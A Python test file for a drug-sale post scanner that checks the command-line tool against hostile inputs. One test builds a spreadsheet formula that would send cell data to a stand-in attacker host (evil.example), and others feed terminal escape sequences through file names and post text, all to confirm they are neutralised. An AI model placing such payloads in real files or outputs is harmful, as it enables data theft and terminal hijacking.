"""Hostile inputs through the command line (issue 15): escapes, spreadsheet formulas, unbounded reads,
lone surrogates in every output. Each test failed before its fix."""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from pillscan.cli import main, one_line

ROOT = Path(__file__).resolve().parents[1]
OFFER = "selling oxy 30 m30 blues, cashapp, text me on telegram"


def run(capsys: Any, *args: str) -> tuple[int, str, str]:
    code = main(list(args))
    out, err = capsys.readouterr()
    return code, out, err


# --- terminal escapes ------------------------------------------------------------------------------------


def test_one_line_escapes_every_control_character() -> None:
    shown = one_line("a\x1b]0;owned\x07b\nc\rd\x9be\u202ef\tg")
    assert shown == "a\\e]0;owned\\x07b\\nc\\rd\\x9be\\u202ef\tg"
    assert all(ch == "\t" or ch.isprintable() for ch in shown)


def test_escape_sequences_in_names_and_posts_never_reach_the_terminal(tmp_path: Path, capsys: Any) -> None:
    name = tmp_path / "evil\x1b]0;pwned\x07.txt"
    name.write_text("\x1b[2J\x1b[31m" + OFFER + "\n")
    code, out, err = run(capsys, "score", "--format", "table", str(name))
    assert code == 0
    assert "\x1b" not in out and "\x07" not in out
    assert "\\e[2J\\e[31mselling" in out and "\\e]0;pwned\\x07.txt" in out
    bad = tmp_path / "dir"
    bad.mkdir()
    (bad / "x\x1b[31m.bin").write_bytes(b"\x00\x01binary")
    code, out, err = run(capsys, "score", str(bad))
    assert "\x1b" not in err and "\\e[31m" in err


def test_scan_messages_escape_file_names(tmp_path: Path, capsys: Any) -> None:
    missing = tmp_path / "no\x1b]0;x\x07such"
    code, _, err = run(capsys, "scan", str(missing), "-o", str(tmp_path / "o.jsonl"))
    assert code != 0 and "\x1b" not in err and "\\e]0;x\\x07such" in err


# --- CSV formula injection -------------------------------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_output_neutralises_formulas(tmp_path: Path, capsys: Any, start: str) -> None:
    posts = tmp_path / "in.jsonl"
    payload = start + 'HYPERLINK("http://evil.example/?"&A1,"oxy 30 cashapp")'
    posts.write_text(json.dumps({"id": start + "1+1", "text": payload}) + "\n")
    out = tmp_path / "out.csv"
    code, _, err = run(capsys, "scan", str(posts), "-o", str(out), "--workers", "1")
    assert code == 0, err
    with out.open(newline="") as fh:
        (row,) = list(csv.DictReader(fh))
    assert row["text"] == "'" + payload and row["id"] == "'" + start + "1+1"


# --- bounded reads in `score` ----------------------------------------------------------------------------


def _rss_of(args: list[str], stdin: Any = None) -> tuple[int, str, int]:
    code = (
        "import sys\n"
        "from pillscan.cli import main\n"
        "rc = main(sys.argv[1:])\n"
        "peak = [line for line in open('/proc/self/status') if line.startswith('VmHWM')][0].split()[1]\n"
        "print('RSS', peak, file=sys.stderr)\n"
        "sys.exit(rc)\n"
    )
    env = {**os.environ, "PYTHONPATH": str(ROOT / "src")}
    proc = subprocess.run(
        [sys.executable, "-c", code, *args], capture_output=True, text=True, env=env, stdin=stdin, timeout=300
    )
    rss = int(proc.stderr.rsplit("RSS", 1)[1].split()[0])
    return proc.returncode, proc.stderr, rss


@pytest.mark.slow
def test_score_dev_zero_is_bounded() -> None:
    code, err, rss = _rss_of(["score", "/dev/zero"])
    assert code == 0 and "skipped /dev/zero" in err and rss < 400 * 1024


@pytest.mark.slow
def test_score_per_line_with_a_huge_line_is_bounded(tmp_path: Path) -> None:
    path = tmp_path / "huge-line.txt"
    with path.open("wb") as fh:
        fh.write(b"first line\n")
        for _ in range(64):
            fh.write(b"x" * (1 << 20))
        fh.write(b"\n" + OFFER.encode() + b"\n")
    code, err, rss = _rss_of(["score", "--per-line", "--format", "jsonl", str(path)])
    assert code == 0 and f"skipped {path}:2: line longer than" in err and rss < 400 * 1024


def test_score_per_line_keeps_line_numbers(tmp_path: Path, capsys: Any) -> None:
    path = tmp_path / "lines.txt"
    path.write_bytes(b"one\r\ntwo\rthree\n\nfour\n")
    code, out, _ = run(capsys, "score", "--per-line", "--format", "jsonl", str(path))
    assert code == 0
    assert [json.loads(line)["name"].rsplit(":", 1)[1] for line in out.splitlines()] == ["1", "2", "3", "5"]


# --- lone surrogates and undecodable file names ----------------------------------------------------------


def _surrogate_posts(path: Path, n: int = 40) -> None:
    rows = [{"id": str(i), "text": (OFFER + " \ud83d") if i % 2 else "hello there"} for i in range(n)]
    path.write_text("\n".join(json.dumps(r) for r in rows) + "\n")


@pytest.mark.parametrize("suffix", ["jsonl", "csv", "parquet"])
def test_lone_surrogate_in_a_flagged_post(tmp_path: Path, capsys: Any, suffix: str) -> None:
    posts = tmp_path / "in.jsonl"
    _surrogate_posts(posts)
    out = tmp_path / f"out.{suffix}"
    args = ["scan", str(posts), "-o", str(out), "--report", str(tmp_path / "r.html"), "--workers", "1"]
    code, _, err = run(capsys, *args, "--chunk-size", "1", "--summary", str(tmp_path / "s.json"))
    assert code == 0, err
    assert "\ufffd" in (tmp_path / "r.html").read_text(encoding="utf-8")
    assert json.loads((tmp_path / "s.json").read_text())["read"] == 40


def test_latin1_file_name_in_a_directory(tmp_path: Path, capsys: Any) -> None:
    root = tmp_path / "in"
    root.mkdir()
    raw = os.fsencode(root) + b"/caf\xe9 $x$ \\frac.txt"
    with open(raw, "wb") as fh:
        fh.write(OFFER.encode() + b"\n")
    out = tmp_path / "o.jsonl"
    report, summary = tmp_path / "r.html", tmp_path / "s.json"
    code, _, err = run(capsys, "scan", str(root), "-o", str(out), "--report", str(report), "--summary", str(summary))
    assert code == 0, err
    (row,) = [json.loads(line) for line in out.read_text().splitlines()]
    assert row["source"].endswith("caf\\xe9 $x$ \\frac.txt") and row["decision"] != "clean"
    assert "caf\\xe9" in report.read_text(encoding="utf-8")


# --- a file whose records are mostly skipped fails the scan loudly ---------------------------------------


def test_mostly_skipped_file_fails_the_scan(tmp_path: Path, capsys: Any) -> None:
    posts = tmp_path / "in.jsonl"
    posts.write_text('{"text": "' + OFFER + '"}\n{"text": broken\n{"text": 3\n{nope\n')
    out = tmp_path / "o.jsonl"
    code, _, err = run(capsys, "scan", str(posts), "-o", str(out), "--workers", "1")
    assert code == 1 and "3 of the 4 records" in err and "--max-skip-rate 0.5" in err
    assert len(out.read_text().splitlines()) == 1  # the output is still complete
    code, _, err = run(capsys, "scan", str(posts), "-o", str(out), "--workers", "1", "--max-skip-rate", "1")
    assert code == 0, err


def test_encoding_option_reaches_the_readers(tmp_path: Path, capsys: Any) -> None:
    posts = tmp_path / "in.txt"
    posts.write_bytes("vendo oxicodona, env\u00edos r\u00e1pidos\n".encode("cp1252"))
    out = tmp_path / "o.jsonl"
    code, _, err = run(capsys, "scan", str(posts), "-o", str(out), "--encoding", "cp1252", "--workers", "1")
    assert code == 0, err
    assert json.loads(out.read_text())["text"] == "vendo oxicodona, env\u00edos r\u00e1pidos"
    code, _, err = run(capsys, "scan", str(posts), "-o", str(out), "--encoding", "nope-9")
    assert code == 1 and "unknown encoding" in err


@pytest.mark.parametrize("name", ["x.json", "x.xlsx", "x.txt"])
def test_unknown_output_extension_is_refused(tmp_path: Path, capsys: Any, name: str) -> None:
    posts = tmp_path / "in.txt"
    posts.write_text(OFFER + "\n")
    code, _, err = run(capsys, "scan", str(posts), "-o", str(tmp_path / name))
    assert code == 1 and "cannot tell the output format" in err and not (tmp_path / name).exists()
    code, _, err = run(capsys, "scan", str(posts), "-o", str(tmp_path / name), "--out-format", "jsonl")
    assert code == 0, err
    assert json.loads((tmp_path / name).read_text())["decision"] != "clean"
